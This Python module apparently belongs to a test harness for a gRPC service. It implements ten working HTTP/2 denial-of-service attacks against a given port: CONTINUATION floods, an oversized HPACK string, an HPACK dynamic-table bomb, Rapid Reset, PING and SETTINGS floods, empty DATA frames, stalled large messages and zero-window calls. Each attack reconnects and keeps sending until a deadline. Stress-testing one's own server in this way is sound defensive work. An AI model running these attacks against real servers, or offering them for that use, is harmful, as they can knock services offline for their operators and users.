"""Attacks on an HTTP/2 port: what a network may send that no client does. Each is a function of (port, until) that goes
on until that time of time.monotonic() and answers what was sent; `tls` is an SSLContext, for a proxy."""

import contextlib
import threading
import time

from . import http2

HEALTH = "/grpc.health.v1.Health/Check"
PREPARE = "/txmsg.v1.MessageService/Prepare"
BIG = 16384 # the largest frame that a new connection may send


class Sender:
    """A connection whose answers are read and dropped, made again when the server ends it."""

    def __init__(self, port, until, **more):
        self.port, self.until, self.more = port, until, more
        self.sent, self.connects = 0, 0 # bytes, connections
        self.connection = None

    def open(self):
        self.connection = http2.Connection(self.port, timeout=5, **self.more)
        self.connects += 1
        threading.Thread(target=self._drop, args=(self.connection.socket,), daemon=True).start()

    @staticmethod
    def _drop(socket):
        with contextlib.suppress(OSError):
            while socket.recv(1 << 20):
                pass

    def run(self, step):
        """`step(connection, n)` answers what to send as the n-th piece of a connection."""
        while time.monotonic() < self.until:
            try:
                self.open()
                n = 0
                while time.monotonic() < self.until:
                    data = step(n)
                    self.connection.send(data)
                    self.sent += len(data)
                    n += 1
            except OSError: # ended by the server
                pass
            finally:
                if self.connection:
                    self.connection.close()
        return self


def continuation(port, until, tls=None):
    """A header block that never ends: CONTINUATION frames of literals that are not indexed."""
    piece = b"".join(http2.literal(b"x-%d" % i, b"v" * 100) for i in range(140))[:BIG]
    follow = http2.frame(http2.CONTINUATION, piece, 0, 1) * 4
    return Sender(port, until, tls=tls).run(
        lambda n: follow if n else http2.frame(http2.HEADERS, http2.headers_of(HEALTH), 0, 1))


def continuation_empty(port, until, tls=None):
    """The same with empty frames: work without a byte of content."""
    follow = http2.frame(http2.CONTINUATION, b"", 0, 1) * 4096
    return Sender(port, until, tls=tls).run(
        lambda n: follow if n else http2.frame(http2.HEADERS, http2.headers_of(HEALTH), 0, 1))


def hpack_string(port, until, tls=None):
    """One header whose value is announced with 1 GiB and sent."""
    start = http2.headers_of(HEALTH) + b"\0" + http2.integer(1, 7) + b"x" + http2.integer(1 << 30, 7)
    follow = http2.frame(http2.CONTINUATION, b"v" * BIG, 0, 1) * 4
    return Sender(port, until, tls=tls).run(lambda n: follow if n else http2.frame(http2.HEADERS, start, 0, 1))


def hpack_bomb(port, until, tls=None):
    """A header of 4 KB in the dynamic table, and frames that name it 16,000 times with a byte each."""
    entry = b"\x40" + http2.integer(1, 7) + b"x" + http2.integer(4000, 7) + b"v" * 4000
    bomb = b"\xbe" * (BIG - 8)

    def step(n):
        stream = 2 * n + 1
        block = http2.headers_of(HEALTH) + entry if n == 0 else http2.headers_of(HEALTH)
        return (http2.frame(http2.HEADERS, block, 0, stream) + http2.frame(http2.CONTINUATION, bomb, 4, stream) +
                http2.frame(http2.RST_STREAM, b"\0\0\0\x08", 0, stream))

    return Sender(port, until, tls=tls).run(step)


def rapid_reset(port, until, tls=None):
    """Calls that are taken back at once."""
    block = http2.headers_of(PREPARE)

    def step(n):
        return b"".join(http2.frame(http2.HEADERS, block, 4, 2 * i + 1) + http2.frame(http2.RST_STREAM, b"\0\0\0\x08", 0, 2 * i + 1)
                        for i in range(n * 100, n * 100 + 100))

    return Sender(port, until, tls=tls).run(step)


def ping(port, until, tls=None):
    follow = http2.frame(http2.PING, b"12345678") * 512
    return Sender(port, until, tls=tls).run(lambda n: follow)


def settings(port, until, tls=None):
    follow = http2.frame(http2.SETTINGS, b"\0\x04\0\0\xff\xff" * 20) * 64
    return Sender(port, until, tls=tls).run(lambda n: follow)


def empty_data(port, until, tls=None):
    """Frames without content on an open call."""
    follow = http2.frame(http2.DATA, b"", 0, 1) * 4096
    return Sender(port, until, tls=tls).run(
        lambda n: follow if n else http2.frame(http2.HEADERS, http2.headers_of(PREPARE), 4, 1))


def half_messages(port, until, tls=None, streams=100):
    """Calls on many streams with messages of 8 MB of which the last byte never comes; the windows are obeyed."""
    sender = Sender(port, until, tls=tls)
    connection = http2.Connection(port, timeout=5, tls=tls)
    start = b"\0" + (8_000_000).to_bytes(4, "big")
    windows, left = {0: 65535}, {}
    opened = 0
    connection.socket.setblocking(True)
    with contextlib.suppress(OSError):
        while time.monotonic() < until:
            if opened < streams:
                stream = 2 * opened + 1
                opened += 1
                connection.send(http2.frame(http2.HEADERS, http2.headers_of(PREPARE), 4, stream))
                windows[stream], left[stream] = 65535, 8_000_004
                connection.send(http2.frame(http2.DATA, start, 0, stream))
                for of in (0, stream):
                    windows[of] -= 5
                left[stream] -= 5
            for stream in list(left):
                n = min(BIG, windows[stream], windows[0], left[stream])
                if n > 0:
                    connection.send(http2.frame(http2.DATA, b"x" * n, 0, stream))
                    sender.sent += n
                    for of in (0, stream):
                        windows[of] -= n
                    left[stream] -= n
                    if not left[stream]:
                        del left[stream]
            _take_windows(connection, windows)
    connection.close()
    return sender


def _take_windows(connection, windows):
    """Reads what is there without waiting long."""
    connection.socket.settimeout(0.02)
    try:
        while True:
            kind, flags, stream, payload = connection.read()
            if kind == http2.WINDOW_UPDATE:
                windows[stream] = windows.get(stream, 65535) + int.from_bytes(payload, "big")
            elif kind == http2.SETTINGS and not flags & http2.ACK:
                connection.send(http2.frame(http2.SETTINGS, b"", http2.ACK))
            elif kind == http2.PING and not flags & http2.ACK:
                connection.send(http2.frame(http2.PING, payload, http2.ACK))
    except TimeoutError:
        pass
    finally:
        connection.socket.settimeout(5)


def unread_answers(port, until, tls=None):
    """Calls whose answers have no window to come in."""
    sender = Sender(port, until, window=0, tls=tls)
    return sender.run(lambda n: b"".join(http2.call(2 * i + 1, HEALTH, b"") for i in range(n * 50, n * 50 + 50)))


ATTACKS = {f.__name__: f for f in (continuation, continuation_empty, hpack_string, hpack_bomb, rapid_reset, ping, settings,
                                   empty_data, half_messages, unread_answers)}
